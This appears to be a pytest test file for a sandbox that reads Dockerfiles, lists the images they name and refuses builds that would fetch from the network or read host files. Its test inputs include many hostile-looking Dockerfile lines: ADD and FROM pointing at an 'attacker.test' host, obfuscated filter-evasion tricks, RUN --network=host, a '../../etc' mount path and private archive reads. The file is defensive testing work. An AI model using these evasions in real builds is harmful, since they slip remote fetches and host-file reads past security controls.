"""Which images a Dockerfile names; with a narrowed network, the engine fetches nothing for a project's Dockerfile."""

import time
from contextlib import suppress
from pathlib import Path

import pytest

from runbook_runner.core.errors import InputError, NotReadyError
from runbook_runner.sandbox.images.fetches import images_of, read_dockerfile_text, refuse_fetches, refuse_host_files

HERE = ("debian:12", "own/base")


def refuse(text: str, **arguments: str) -> None:
    refuse_fetches(text, arguments, lambda name: name in HERE, "mine/Dockerfile")


@pytest.mark.parametrize(
    "text",
    [
        "FROM scratch\nCOPY a /a\n",
        "# comment\nARG V=12\nFROM debian:${V} AS build\nFROM build\nCOPY --from=build /a /a\nCOPY --from=0 /b /b\n",
        "from \\\n  # between\n  debian:12 as One\nFROM One\nCOPY --from=One --chown=1:1 /a /a\n",
        "ARG BASE_IMAGE=snapshot:other\nFROM ${BASE_IMAGE}\nADD a.tar /\n",
        "FROM debian:12\nRUN curl https://example.test\n",
        "FROM debian:12\nRUN pip install --from=x $Y\n",
        "ARG V='12'\nARG UNSET\nFROM debian:$V\nARG A=1 B='2 3'\n",
    ],
)
def test_what_the_engine_has_is_fine(text: str) -> None:
    refuse(text, BASE_IMAGE="own/base")


@pytest.mark.parametrize(
    "text",
    [
        "FROM attacker.test/x\n",
        "FROM attacker.test/x \\",
        "FROM debian:12\nADD http://attacker.test/x /x \\\n# the end\n\n",
        "FROM debian:12\nRUN --network=host x \\\n",
        "FROM scratch AS attacker.test/x\nCOPY --from=attacker.test/x /a /a\n",
        "FROM scratch AS a/b\n",
        "FROM scratch AS busybox\nCOPY --from=busybox /a /a\n",
        "FROM scratch\nCOPY --from=0 /a /a\n",
        "ARG X=attacker.test/x\nFROM $X\n",
        "FROM debian:12\nCOPY --from=attacker.test/x /a /a\n",
        "FROM debian:12\nCOPY --from=$X /a /a\n",
        "FROM debian:12\nADD https://attacker.test/x /x\n",
        'FROM debian:12\nadd ["https://attacker.test/x", "/x"]\n',
        "FROM debian:12\nADD \\\nhttp\\\n://attacker.test/x /x\n",
        "FROM debian:12\nENV U=https://attacker.test\nADD $U /x\n",
        "FROM debian:12\nADD git@github.com:a/b.git /x\n",
        "FROM debian:12\nONBUILD ONBUILD ADD https://attacker.test/x /x\n",
        "FROM --platform=linux/arm64 debian:12\n",
        "FROM ${X:-attacker.test/x}\n",
        "ARG X=debian:12\nARG X=attacker.test/x\nFROM $X\n",
        'FROM debian:12\nADD ["http:\\/\\/attacker.test/x", "/x"]\n',
        'FROM debian:12\nADD ["http:\\u002f/attacker.test/x", "/x"]\n',
        'FROM debian:12\nADD http:"//"attacker.test/x /x\n',
        "FROM debian:12\nADD http:\\//attacker.test/x /x\n",
        'FROM debian:12\nCOPY --"from"=attacker.test/x /a /a\n',
        "FROM debian:12\nCOPY --fr\\om=attacker.test/x /a /a\n",
        "FROM debian:12\nADD x\x0bhttps://attacker.test/x /x\n",
        "FROM debian:12\nADD x \\\n\x1c# no comment, to the engine https://attacker.test/x /x\n",
        "FROM debian:12\nADD x \\\r\nhttps://attacker.test/x /x\n",
        "FROM debian:12\nENV X=a\\\\\nADD https://attacker.test/x /x\n",
        "FROM debian:12\nRUN a \\\r\r\nFROM debian:12 AS attacker.test/x\nCOPY --from=attacker.test/x /a /a\n",
        f"FROM debian:12\nCOPY --from={'9' * 20} /a /a\n",
        "FROM 12\n",
        "FROM debian:12\nFROM 0\n",
        "ARG X=debian:12\nARG A=1 X=attacker.test/x\nFROM $X\n",
        "ARG X=debian:12\nARG A X=attacker.test/x\nFROM $X\n",
        'ARG X=debian:12\nARG X""=attacker.test/x\nFROM $X\n',
        "ARG X=debian:12\nARG \\X=attacker.test/x\nFROM $X\n",
        "ARG X=debian:12\nONBUILD ARG X=attacker.test/x\nARG X=attacker.test/x\nFROM $X\n",
        "ARG X=attacker.test/x\nFROM debian:12 AS scratch\nARG X=debian:12\nFROM $X\n",
        "ARG 1attacker=debian:12\nFROM $1attacker\n",
        "ARG X=own\nFROM $Xé/base\n",
        "FROM debian:12\nRUN <<'x\\'\nRUN x\\\nADD https://attacker.test/x /x\n",
        "FROM debian:12\nCOPY <<'' /a\nRUN x \\\n\nADD https://attacker.test/x /x\n",
        "FROM debian:12\nRUN --network=none --mount=type=bind,from=attacker.test/x,target=/m true\n",
        'FROM debian:12\nRUN --mount="type=bind,fr"om=attacker.test/x,target=/m true\n',
        "FROM debian:12\nRUN --mount=type=cache,target=/c true\n",
        "FROM debian:12\nONBUILD RUN true\n",
        "FROM debian:12\nONBUILD RUN --network=default true\n",
        "FROM debian:12\nENV X=mount=type=bind,from=attacker.test/x,target=/m\nONBUILD RUN --$X true\n",
        "ARG X=attacker.test/x\nARG X=debian:12\nFROM $X\n",
        "ARG X=attacker.test/\nARG X\nFROM ${X}debian:12\n",
        "ARG X\nFROM ${X}debian:12\n",
        "ARG TARGETARCH=12\nFROM debian:$TARGETARCH\n",
        "ARG BUILDOS=12\nFROM debian:$BUILDOS\n",
        "FROM debian:12\nCOPY --from$EMPTY=attacker.test/x /a /a\n",
        "FROM debian:12\nCOPY --from${EMPTY}=attacker.test/x /a /a\n",
        "FROM debian:12\nCOPY --chown=1:1 --$F /a /a\n",
        'FROM debian:12\nCOPY --"from"$EMPTY=attacker.test/x /a /a\n',
        "FROM debian:12\nCOPY --fromage=attacker.test/x /a /a\n",
        "FROM debian:12 AS Busybox\nFROM busybox\n",
        "FROM debian:12 AS Busybox\nFROM debian:12\nCOPY --from=busybox /a /a\n",
        "FROM debian:12 AS Busybox\nFROM debian:12 AS busybox\nFROM Busybox\n",
        "FROM Scratch\n",
        "ARG V=" + "x" * 10_000 + "\nFROM " + "$V" * 10_000 + "\n",
        "FROM debian:12\n" * 1001,
        "FROM debian:12 AS a\nONBU\u0130LD ADD https://attacker.test/x /x\nFROM a\n",
        "FROM .\n",
        "FROM debian:12\nCOPY --from=-1 /a /a\n",
        "# escape=`\nFROM debian:12\nADD htt`\nps://attacker.test/x /x\n",
    ],
)
def test_what_it_would_fetch_is_refused_with_the_way_out(text: str) -> None:
    with pytest.raises(NotReadyError) as caught:
        refuse(text)
    assert "runbook snapshots build" in str(caught.value)


@pytest.mark.parametrize(
    "text",
    [
        "FROM docker-archive:/home/ada/private.tar\n",
        "FROM dir:private\n",
        "FROM docker-daemon:private\n",
        "FROM oci:5000/private\n",
        "ARG X=oci-archive\nFROM $X:private\n",
        "FROM $X\n",
        "FROM a/b\nCOPY --from=containers-storage:private / /\n",
        "FROM a/b\nCOPY --from$EMPTY=dir:private / /\n",
        "FROM a/b\nRUN --mount=type=cache,target=/c,id=../../etc true\n",
        "FROM a/b AS c\nRUN --mount=type=bind,from=c,source=/link,target=/m true\n",
        "FROM a/b\nRUN --network=none true\n",
        "FROM a/b\nRUN \u00a0--mount=type=cache,target=/c true\n",
        "FROM a/b\nRUN <<'x\\'\nRUN x\\\nRUN --mount=type=cache,target=/c true\n",
        "FROM a/b\nONBUILD RUN true\n",
    ],
)
def test_what_podman_would_read_of_its_machine_is_refused(text: str) -> None:
    with pytest.raises(NotReadyError, match="files of its machine"):
        refuse_host_files(text, {}, "mine/Dockerfile")


@pytest.mark.parametrize(
    "text",
    [
        "FROM --platform=linux/arm64 registry.test:5000/a/b@sha256:" + "0" * 64 + " AS one\nFROM docker:24\n",
        "FROM a/b AS one\nFROM one\nADD https://example.test/x /x\nCOPY --from=0 --chown=1:1 /a /b\nRUN x --mount=y\n",
        *(file.read_text() for file in sorted(Path("snapshots").glob("*/Dockerfile"))),
    ],
)
def test_an_image_and_an_address_are_no_file_of_podmans_machine(text: str) -> None:
    refuse_host_files(text, {"BASE_IMAGE": "own/base"}, "mine/Dockerfile")


def test_a_dockerfile_that_is_not_text_is_refused_by_its_line() -> None:
    assert read_dockerfile_text(b"\xef\xbb\xbfFROM \xc3\xa4\n", "mine/Dockerfile") == "FROM \u00e4\n"
    with pytest.raises(InputError) as caught:
        read_dockerfile_text(b"FROM a\nRUN \xa0--mount=type=cache,target=/c true\n", "mine/Dockerfile")
    assert caught.value.where == "mine/Dockerfile:2"


STAGES = "".join(f"FROM scratch AS a{number}\n" for number in range(1000))


@pytest.mark.parametrize(
    "text",
    [
        STAGES + "COPY --from=a1 x y\n" * 51_000,
        STAGES + "COPY --from=1 x y\n" * 51_000,
        STAGES + "COPY " + "--from=a1 " * 97_000 + "x y\n",
        "ARG V=" + "x" * 500 + "\nFROM " + "$V" * 490_000 + "\n",
        "ONBUILD " * 120_000,
        "".join(f"ARG a{number}=b\n" for number in range(70_000)),
    ],
    ids=["stages", "numbers", "flags", "variables", "onbuild", "arguments"],
)
def test_a_large_dockerfile_is_read_soon(text: str) -> None:
    begun = time.process_time()
    with suppress(NotReadyError):
        refuse_host_files(text, {}, "mine/Dockerfile")
    with suppress(NotReadyError):
        images_of(text, {}, "mine/Dockerfile")
    assert time.process_time() - begun < 2.5


@pytest.mark.parametrize(
    ("text", "images"),
    [
        ("FROM scratch\nCOPY a /a\n", set()),
        ("ARG V=12\nFROM --platform=linux/arm64 debian:$V AS one\nFROM one\nCOPY --from=0 / /\n", {"debian:12"}),
        ("ARG BASE_IMAGE=snapshot:x\nFROM ${BASE_IMAGE}\nCOPY --chown=1:1 --from=a/b /a /a\n", {"own/base", "a/b"}),
        ("FROM a AS b\nFROM a\nCOPY --from=b /a /a\nONBUILD onbuild COPY --from=c /a /a\n", {"a", "c"}),
        ("ARG A=1 B=2\nFROM a\nUSER x\nARG C=1 D=2\nRUN echo --from=x\nCOPY --chown=$C:$D x /\n", {"a"}),
        ("FROM a\nRUN --network=none true\nVOLUME /x\nONBUILD RUN true\n", {"a"}),
        *((file.read_text(), {"own/base"}) for file in sorted(Path("snapshots").glob("*/Dockerfile"))),
    ],
)
def test_the_images_that_a_dockerfile_names_are_found(text: str, images: set[str]) -> None:
    assert images_of(text, {"BASE_IMAGE": "own/base"}, "mine/Dockerfile") == images


OURS = "runbook-runner/python312-uv:0123456789ab"


@pytest.mark.parametrize(
    "text",
    [
        'FROM "scratch" AS files\n',
        "FROM scr\\atch\n",
        "FROM ${S:-scratch}\n",
        "ARG S\nFROM ${S}\n",
        "ARG S=scratch T=1\nFROM $S\n",
        "# escape=`\nFROM scr`\natch\n",
        f"FROM '{OURS}'\n",
        f"FROM ${{Q:-{OURS}}}\n",
        f"FROM ${{Q-{OURS}}}\n",
        "FROM runbook-runner\\/python312-uv:0123456789ab\n",
        f"FROM a\nCOPY --from=$X / /\nCOPY --$F={OURS} / /\n",
        f'FROM a\nCOPY --fr"om"={OURS}$X / /\n',
        f"FROM a\nONBUILD COPY --from=${{Q:-{OURS}}} / /\n",
        "FROM a\nONBUILD COPY <<'x\\' /\nRUN x\\\nFROM b\n",
        "FROM a\nRUN <<'x\\'\nRUN x\\\nFROM b\n",
        "ARG V=" + "x" * 10_000 + "\nFROM " + "$V" * 10_000 + "\n",
    ],
)
def test_a_dockerfile_whose_images_can_not_be_told_is_refused(text: str) -> None:
    """Each engine has its own quoting: none of ours is safe to decide by."""
    with pytest.raises(NotReadyError, match="Which images this Dockerfile names can't be told"):
        images_of(text, {}, "mine/Dockerfile")
